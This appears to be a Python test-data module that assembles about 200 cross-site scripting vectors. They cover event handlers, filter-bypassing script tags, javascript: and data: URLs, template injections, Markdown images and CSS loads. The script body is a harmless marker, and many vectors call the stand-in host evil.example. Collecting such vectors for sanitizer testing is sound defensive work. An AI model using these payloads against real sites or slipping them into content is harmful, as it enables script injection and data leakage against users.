"""Strings that run a script or reach another server wherever a page takes text for markup: 200 and some, each another way.

`pwned=1` is what runs; `evil.example` is who would hear of it. Gathered from the kinds that public cheat sheets list.
"""

RUN = "pwned=1"
THERE = "http://evil.example/x"

_HANDLERS = (
    "a href=x onclick", "audio src=x onerror", "b onauxclick", "body onbeforeprint", "body onload", "body onpageshow", "body onhashchange", "button autofocus onfocus", "canvas onclick", "col oncontextmenu", "del ondblclick",
    "details open ontoggle", "dialog open onclose", "div onmouseover", "div onpointerenter", "div onwheel", "embed onload",
    "fieldset onkeydown", "form onsubmit", "form onformdata", "frameset onload", "iframe onload", "img src=x onerror", "img srcset=x onerror", "input autofocus onfocus",
    "input autofocus onblur", "input oninput", "isindex onfocus", "keygen autofocus onfocus", "link rel=stylesheet href=x onerror",
    "marquee onstart", "math onclick", "meter onmouseover", "object data=x onerror", "p style=animation-name:x onanimationstart",
    "p ontransitionend", "q ondragstart", "s onpaste", "section onscrollend", "select autofocus onfocus", "svg onload", "svg/onload", "svg><animate onbegin", "svg><set onend",
    "table background=x onload", "textarea autofocus onfocus", "track onload", "video oncanplay", "video src=x onerror",
    "xss contenteditable autofocus tabindex=1 onfocus", "xss popover onbeforetoggle", "xss oncontentvisibilityautostatechange",
)  # fmt: skip
_FETCHERS = (
    "applet code={}", "area href={}", "audio src={} autoplay", "base href={}", "body background={}", "embed src={}", "frame src={}",
    "iframe src={}", "image src={}", "img dynsrc={}", "img longdesc={} src={}", "img lowsrc={}", "img src={}", "img srcset='{} 2x'",
    "input type=image src={}", "link rel=dns-prefetch href={}", "link rel=icon href={}", "link rel=modulepreload href={}",
    "link rel=preconnect href={}", "link rel=prefetch href={}", "link rel=preload as=image href={}", "link rel=stylesheet href={}",
    "meta http-equiv=refresh content='0;url={}'", "object data={}", "picture><source srcset={}><img", "script src={}",
    "script type=module src={}", "source src={}", "svg><image href={}", "svg><use href={}#x", "svg><feImage href={}",
    "table background={}", "track src={}", "video poster={}", "video src={} autoplay", "form action={}><input type=submit autofocus",
    "a ping={} href=/", "q cite={}",
)  # fmt: skip
_SCRIPTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script >{}</script >", "<script\t>{}</script>", "<script\n>{}</script>",
    "<script/x>{}</script>", "<<script>{}//<</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}", "<script\x00>{}</script>",
    "<svg><script>{}</script></svg>", "<svg><script>{}</svg>", "<math><mtext><script>{}</script></mtext></math>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "<!--<img src='--><script>{}</script>'>", "<![CDATA[<script>{}</script>]]>",
    "\"><script>{}</script>", "'><script>{}</script>", "`><script>{}</script>", "\\\"><script>{}</script>", "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "＜script＞{}＜/script＞", "‹script›{}‹/script›", "<xml><i><b>&lt;script&gt;{}&lt;/script&gt;</b></i></xml>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "vbscript:{}", "livescript:{}", "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+?{}", "blob:{}", "view-source:javascript:{}", "feed:javascript:{}",
    "<a href=javascript:{}>press</a>", "<a href='java&#x0A;script:{}'>press</a>", "<iframe src=javascript:{}></iframe>",
    "<form action=javascript:{}><button autofocus>go</button></form>", "<button formaction=javascript:{}>go</button>",
    "<math href=javascript:{}>x</math>", "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>", "<object data=javascript:{}>",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>", "<embed src=javascript:{}>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "`${{{}}}`", "#{{{}}}", "<%= {} %>", "{{% raw %}}{}{{% endraw %}}",
    "';{};//", "\";{};//", "\\';{};//", "*/{}/*", "</script>;{}", "[[{}]]", "@{{{}}}", "__proto__[x]={}", "constructor.prototype.x={}",
    "\u2028{}", "\u202e{}\u202c", "\u200b<script>{}</script>", "eval('{}')", "setTimeout('{}')", "Function('{}')()", "onerror={};throw 1",
)  # fmt: skip
_MARKDOWN = (
    "![chart]({})", "![chart]({} 'title')", "![]({})", "![a][b]\n\n[b]: {}", "[press](javascript:{})", "[press]({})", "[![a]({})]({})",
    "<{}>", "[ref]: {}", "[^1]: {}", "# ![h]({})", "| ![t]({}) |", "- ![l]({})", "> ![q]({})", "```html\n<img src={}>\n```",
    "[a](data:text/html,{})", "![a](//evil.example/{})", "![a](\\\\evil.example\\{})", "![a]&#40;{})", "!\u200b[a]({})",
)  # fmt: skip
_STYLES = (
    "<style>@import '{}';</style>", "<style>*{{background:url({})}}</style>", "<div style=\"background:url({})\">",
    "<div style='list-style-image:url({})'>", "<p style=behavior:url({})>", "<p style='-moz-binding:url({})'>",
    "<svg style='mask:url({}#m)'>", "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>",
    "<input style='background-image:image-set(\"{}\" 1x)'>", "<link rel=stylesheet href='data:text/css,@import \"{}\"'>",
)  # fmt: skip

VECTORS = (
    *(f"<{handler}={RUN}>" for handler in _HANDLERS),
    *(f"<{fetcher.replace('{}', THERE)}>" for fetcher in _FETCHERS),
    *(script.format(RUN) for script in _SCRIPTS + _SCHEMES + _TEMPLATES),
    *(text.replace("{}", THERE) for text in _MARKDOWN),
    *(style.format(THERE) for style in _STYLES),
)
